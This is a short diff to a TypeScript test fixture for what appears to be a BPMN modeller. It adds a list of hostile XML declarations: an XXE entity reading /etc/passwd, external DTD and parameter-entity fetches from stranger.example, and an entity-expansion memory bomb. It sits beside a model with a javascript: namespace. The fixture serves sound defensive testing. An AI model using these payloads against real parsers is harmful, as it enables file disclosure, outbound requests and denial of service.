@@ -10,6 +10,14 @@ const escaped = (text: string): string =>
 const h = escaped(hostile);
 const said = `<bpmn:documentation>${h} ${escaped(link)} ]]&gt;</bpmn:documentation>`;
 
+/** What a file may declare to read other files, to call other hosts, or to fill the memory. */
+export const hostileDeclarations: readonly string[] = [
+  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+  '<!DOCTYPE a SYSTEM "http://stranger.example/a.dtd">',
+  '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://stranger.example/x">%x;]>',
+  '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
+];
+
 /** A process whose every text is one, in the places that reports against other modellers name. */
 export const hostileModel = `<?xml version="1.0" encoding="UTF-8"?>
 <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="definitions" targetNamespace="javascript:window.hacked=1" exporter="${h}">
